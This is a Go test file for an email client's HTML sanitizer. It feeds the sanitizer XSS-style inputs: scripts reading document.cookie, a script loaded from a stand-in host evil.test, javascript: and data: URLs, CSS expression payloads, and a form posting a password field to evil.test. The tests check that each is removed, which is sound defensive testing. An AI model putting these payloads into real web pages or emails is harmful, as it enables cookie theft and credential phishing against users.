package compose

import (
	"net/mail"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
)

func TestSanitizeHTMLHostile(t *testing.T) {
	tests := []struct {
		name  string
		in    string
		gone  []string // must not be in the output (lower-cased comparison)
		kept  []string // must be in the output as written
		equal *string  // the whole output, when it is known
	}{
		{
			name: "script element and its content",
			in:   `<p>Bonjour</p><script>alert(document.cookie)</script><SCRIPT src="https://evil.test/x.js"></SCRIPT>`,
			gone: []string{"script", "alert", "evil.test"},
			kept: []string{"<p>Bonjour</p>"},
		},
		{
			name: "event handlers",
			in:   `<img src="cid:logo@acme.test" onerror="alert(1)"><p onclick="steal()" onmouseover=x()>Hi</p><body onload="x()">`,
			gone: []string{"onerror", "onclick", "onmouseover", "onload", "alert", "steal"},
			kept: []string{`<img src="cid:logo@acme.test">`, "<p>Hi</p>"},
		},
		{
			name: "javascript and vbscript URLs",
			in:   `<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a><a href="vbscript:msgbox(1)">c</a><a href="jav&#x09;ascript:alert(1)">d</a><img src="javascript:alert(1)">`,
			gone: []string{"javascript", "vbscript", "alert", "href", "<img"},
			kept: []string{"a", "b", "c", "d"},
		},
		{
			name: "forms and inputs",
			in:   `<form action="https://evil.test/collect" method="post"><input name="password" type="password"><button formaction="javascript:x()">Go</button><select><option>1</option></select><textarea>t</textarea></form>`,
			gone: []string{"<form", "<input", "<button", "<select", "<textarea", "action", "formaction", "evil.test", "password"},
		},
		{
			name: "frames, objects and embeds",
			in:   `<iframe src="https://evil.test"></iframe><frameset><frame src="x"></frameset><object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test"><link rel="stylesheet" href="https://evil.test/x.css">`,
			gone: []string{"iframe", "frame", "object", "embed", "applet", "<base", "<meta", "<link", "evil.test", "x.swf", "refresh"},
		},
		{
			name: "SVG with script",
			in:   `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>t</text></a><foreignObject><iframe src="x"></iframe></foreignObject></svg><math><mi xlink:href="javascript:alert(4)">m</mi></math>`,
			gone: []string{"<svg", "onload", "script", "alert", "xlink", "javascript", "iframe", "foreignobject", "<math", "<mi"},
		},
		{
			name: "data URLs other than images",
			in:   `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a><img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+"><img src="data:text/html,<script>alert(1)</script>"><a href="data:image/png;base64,iVBORw0K">link to data</a>`,
			gone: []string{"data:text", "svg+xml", "alert", "<img"},
			kept: []string{"x", `<a href="data:image/png;base64,iVBORw0K">link to data</a>`},
		},
		{
			name: "style-based script",
			in:   `<style>body{background:url("javascript:alert(1)")}</style><div style="background-image:url(javascript:alert(1));width:expression(alert(2));behavior:url(x.htc);-moz-binding:url(x.xml#x);color:red">x</div><p style="position:fixed;top:0;z-index:9999;display:none">y</p>`,
			gone: []string{"<style", "url(", "expression", "behavior", "binding", "javascript", "alert", "position", "z-index", "display"},
			kept: []string{`<div style="color: red">x</div>`, "<p>y</p>"},
		},
		{
			name: "remote images are not loaded",
			in:   `<img src="https://tracker.test/pixel.gif" alt="pixel"><img src="//tracker.test/p.gif">`,
			gone: []string{"tracker.test", "src="},
		},
		{
			name: "formatting, links, images and tables kept",
			in: `<h2>Title</h2><p>Dear <b>Ana</b>, <i>thanks</i> <u>for</u> <s>it</s>.</p><ul><li>one</li></ol><blockquote type="cite">q</blockquote>` +
				`<a href="https://acme.test/orders?id=1&amp;x=2">order</a> <a href="mailto:help@acme.test">mail</a> <a href="tel:+33123456789">call</a>` +
				`<img src="cid:img.1@acme.test" alt="logo" width="120" height="40"><img src="data:image/png;base64,iVBORw0KGgo=">` +
				`<table border="1" cellpadding="2"><tr><th colspan="2">h</th></tr><tr><td align="right">1</td><td>2</td></tr></table>`,
			kept: []string{"<h2>Title</h2>", "<b>Ana</b>", "<i>thanks</i>", "<u>for</u>", "<s>it</s>", "<li>one</li>", `<blockquote type="cite">q</blockquote>`,
				`<a href="https://acme.test/orders?id=1&amp;x=2">order</a>`, `<a href="mailto:help@acme.test">mail</a>`, `<a href="tel:+33123456789">call</a>`,
				`<img src="cid:img.1@acme.test" alt="logo" width="120" height="40">`, `<img src="data:image/png;base64,iVBORw0KGgo=">`,
				`<table border="1" cellpadding="2">`, `<th colspan="2">h</th>`, `<td align="right">1</td>`},
			gone: []string{"nofollow", "_blank"},
		},
		{
			name: "editor styles and classes kept, checked",
			in:   `<blockquote class="quote cite" style="margin:0 0 0 .8ex;border-left:1px solid #ccc;padding-left:1ex">q</blockquote><span style="font-weight:bold;color:#c00;font-size:14px">x</span><div class="a&quot;b">c</div>`,
			kept: []string{`class="quote cite"`, `style="margin: 0 0 0 .8ex; border-left: 1px solid #ccc; padding-left: 1ex"`, `style="font-weight: bold; color: #c00; font-size: 14px"`, "<div>c</div>"},
		},
		{name: "empty", in: "", equal: new(string)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := SanitizeHTML(tt.in)
			low := strings.ToLower(got)
			for _, bad := range tt.gone {
				assert.NotContains(t, low, bad)
			}
			for _, good := range tt.kept {
				assert.Contains(t, got, good)
			}
			if tt.equal != nil {
				assert.Equal(t, *tt.equal, got)
			}
			assert.Equal(t, got, SanitizeHTML(got), "sanitizing twice changes nothing")
		})
	}
}

// TestSanitizeHTMLSharesThePolicy: what customer mail may not carry, an
// agent's HTML may not either, and both keep the same elements.
func TestSanitizeHTMLSharesThePolicy(t *testing.T) {
	in := `<p>x</p><script>a()</script><a href="javascript:b()">l</a><img src="https://t.test/p.gif"><img src="cid:c@d"><table><tr><td>t</td></tr></table><form><input></form>`
	agent := SanitizeHTML(in)
	customer := (&Message{HTML: in}).SafeHTML()
	assert.Equal(t, customer, agent, "no link, no style: both policies give the same")
	link := `<a href="https://acme.test/">x</a>`
	assert.Equal(t, link, SanitizeHTML(link), "the agent's links are left as written")
	assert.Contains(t, (&Message{HTML: link}).SafeHTML(), `nofollow`, "a stranger's link is marked")
	assert.NotContains(t, (&Message{HTML: `<p style="color:red" class="x">y</p>`}).SafeHTML(), "style", "customer mail keeps no style")
}

// FuzzSanitizeHTML: the output never carries active content and is a
// fixed point.
func FuzzSanitizeHTML(f *testing.F) {
	for _, s := range []string{
		`<p onclick="x()">a</p>`, `<script>alert(1)</script>`, `<a href="javascript:x">y</a>`,
		`<svg><script>x</script></svg>`, `<img src="data:image/png;base64,iVBORw0K" onerror=x>`,
		`<div style="background:url(javascript:x);color:red">z</div>`, `<a href="https://a.test/?q=1&b=2">q</a>`,
		"<p>unclosed <b>tags <i>here", `<<script>script>alert(1)<</script>/script>`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		got := SanitizeHTML(in)
		assert.Equal(t, got, SanitizeHTML(got), "fixed point")
		assertInert(t, got)
	})
}

// assertInert fails unless every element of s is one the policy allows,
// no attribute is an event handler, every URL has an allowed scheme and no
// style loads anything.
func assertInert(t *testing.T, s string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(s))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		assert.NotContains(t, []string{"script", "style", "iframe", "frame", "form", "input", "button", "svg", "math", "object", "embed", "link", "meta", "base"}, tok.Data)
		for _, a := range tok.Attr {
			assert.False(t, strings.HasPrefix(a.Key, "on"), "handler %s in %q", a.Key, s)
			v := strings.ToLower(strings.TrimSpace(a.Val))
			switch a.Key {
			case "href", "src":
				ok := false
				for _, p := range []string{"http:", "https:", "mailto:", "tel:", "cid:", "data:image/png;", "data:image/gif;", "data:image/jpeg;", "data:image/jpg;", "data:image/webp;"} {
					ok = ok || strings.HasPrefix(v, p)
				}
				assert.True(t, ok, "%s=%q in %q", a.Key, a.Val, s)
				if a.Key == "src" {
					assert.False(t, strings.HasPrefix(v, "http"), "remote image in %q", s)
				}
			case "style":
				assert.NotContains(t, v, "url(")
				assert.NotContains(t, v, "expression")
			}
		}
	}
}

// TestSanitizeHTMLReply: a reply to an HTML mail, with the agent's text
// above the quote, keeps its quote, its style and the inline image the
// quote shows; it then renders with that image.
func TestSanitizeHTMLReply(t *testing.T) {
	orig := &Message{
		From:      []mail.Address{{Name: "Ana", Address: "ana@example.test"}},
		Subject:   "Colis",
		MessageID: "m1@example.test",
		HTML:      `<p onclick="x()">Mon colis <img src="cid:photo@example.test"> est abîmé.</p><script>x()</script>`,
		Attachments: []Attachment{{Filename: "photo.png", ContentType: "image/png", ContentID: "photo@example.test",
			Inline: true, Data: []byte("\x89PNG\r\n\x1a\n"), Size: 8}},
	}
	d := Reply(orig, &ReplyOptions{From: testFrom})
	d.Prepend("Nous renvoyons le colis.\nCordialement", "")
	got := SanitizeHTML(d.HTML)
	for _, want := range []string{"<p>Nous renvoyons le colis.<br>\nCordialement</p>", `<blockquote type="cite" style="margin: 0 0 0 .8ex; border-left: 1px solid #ccc; padding-left: 1ex">`, `<img src="cid:photo@example.test">`, "est abîmé."} {
		assert.Contains(t, got, want)
	}
	assert.NotContains(t, got, "onclick")
	assert.Equal(t, got, SanitizeHTML(got))
	d.HTML = got
	raw, err := Render(d, nil)
	require.NoError(t, err)
	assert.Contains(t, string(raw), "Content-ID: <photo@example.test>")
}
